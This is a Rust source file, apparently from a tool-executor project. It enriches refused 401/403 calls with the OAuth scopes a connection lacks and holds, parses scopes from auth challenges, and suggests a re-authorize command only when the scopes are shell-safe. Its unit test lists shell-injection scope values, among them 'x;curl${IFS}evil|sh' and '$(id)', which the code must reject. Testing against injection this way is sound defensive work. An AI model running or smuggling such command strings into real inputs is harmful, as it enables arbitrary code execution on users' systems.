//! Says of a call that was refused what its connection lacks.

use executor_runtime::RequestRecord;
use serde_json::json;

use super::answer::split_scopes;
use super::grant::Grant;
use super::scopes::of_tool;
use crate::invoke::Bound;
use crate::tool_error::ToolError;
use crate::workspace::Workspace;

impl Workspace {
    /// Adds to a 401 or 403 which scopes were needed and which are held.
    pub(crate) fn explain_refusal(
        &self,
        bound: &Bound,
        requests: &[RequestRecord],
        error: ToolError,
    ) -> ToolError {
        let Some(connection) = &bound.connection else { return error };
        if matches!(error.status, Some(401 | 403))
            && let Some(method) = self.outdated_method(connection)
        {
            let (source, name) = (&connection.source, &connection.name);
            let message = format!(
                "{}; {source} declares by now that {method:?} is placed otherwise than when the connection \
                 {name} was added: remove it and add it again, if that is right",
                error.message
            );
            return ToolError { message, ..error };
        }
        let Some(grant) = Grant::read(connection.oauth.as_deref()) else { return error };
        let again = format!("executor connections authorize {} {}", connection.source, connection.name);
        match error.status {
            Some(401) => {
                let message = format!("{}; `{again}` authorizes the connection again", error.message);
                ToolError { message, ..error }
            }
            Some(403) => {
                let held = self.stored_tokens(&grant).map(|tokens| tokens.scopes).unwrap_or_default();
                let challenge = requests.last().and_then(|request| request.challenge.as_deref());
                let asked = challenge.and_then(|text| parameter(text, "scope"));
                let needed = match asked {
                    Some(asked) => split_scopes(&asked),
                    None => of_tool(bound.tool.row.meta.as_deref(), &grant.method),
                };
                let missing: Vec<&String> = needed.iter().filter(|scope| !held.contains(scope)).collect();
                if missing.is_empty() {
                    return error;
                }
                let list = |scopes: &[&String]| {
                    scopes.iter().map(|scope| scope.as_str()).collect::<Vec<_>>().join(", ")
                };
                let (lacks, holds) = (list(&missing), list(&held.iter().collect::<Vec<_>>()));
                let holds = if holds.is_empty() { "none" } else { &holds };
                // A command is offered only where a shell takes it as it stands.
                let plain = missing.iter().all(|scope| is_plain(scope));
                let asks = if plain {
                    let flags: Vec<String> = missing.iter().map(|scope| format!("--scope {scope}")).collect();
                    format!("`{again} {}` asks for it", flags.join(" "))
                } else {
                    format!("`{again} --scope …` asks for it")
                };
                let message = format!(
                    "{}; the connection lacks the scope {lacks} and holds {holds}: {asks}",
                    error.message
                );
                let details =
                    json!({ "missing_scopes": missing, "held_scopes": held, "upstream": error.details });
                ToolError { message, details: Some(details), ..error }
            }
            _ => error,
        }
    }
}

/// Whether a scope means nothing else to a shell.
fn is_plain(scope: &str) -> bool {
    scope.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"._:/-+@%,=_".contains(&byte))
        && !scope.starts_with('-')
}

/// A parameter of a challenge: `Bearer error="…", scope="a b"`.
fn parameter(challenge: &str, name: &str) -> Option<String> {
    let mut rest = challenge;
    while let Some(place) = rest.to_ascii_lowercase().find(name) {
        let before = rest[..place].chars().next_back();
        let after = rest[place + name.len()..].trim_start();
        rest = &rest[place + name.len()..];
        if before.is_some_and(|character| character.is_ascii_alphanumeric() || "_-".contains(character)) {
            continue;
        }
        let Some(value) = after.strip_prefix('=').map(str::trim_start) else { continue };
        return match value.strip_prefix('"') {
            Some(quoted) => quoted.split('"').next().map(str::to_owned),
            None => value.split([',', ' ']).next().map(str::to_owned),
        };
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_holds_what_a_shell_leaves_alone() {
        for scope in ["repo", "read:org", "https://www.googleapis.com/auth/drive", "user.read", "a-b_c"] {
            assert!(is_plain(scope), "{scope}");
        }
        for scope in ["x;curl${IFS}evil|sh", "`id`", "$(id)", "-x", "a'b", "a\"b", "~", "a&b"] {
            assert!(!is_plain(scope), "{scope}");
        }
    }

    #[test]
    fn challenges_name_scopes() {
        let scope = |text: &str| parameter(text, "scope");
        assert_eq!(scope(r#"Bearer realm="x", scope="a b", error="e""#).as_deref(), Some("a b"));
        assert_eq!(scope("Bearer Scope=a, error=e").as_deref(), Some("a"));
        assert_eq!(scope(r#"Bearer my_scope="no""#), None);
        assert_eq!(scope(r#"Bearer error="insufficient_scope", scope = "z""#).as_deref(), Some("z"));
        assert_eq!(scope("Bearer"), None);
    }
}
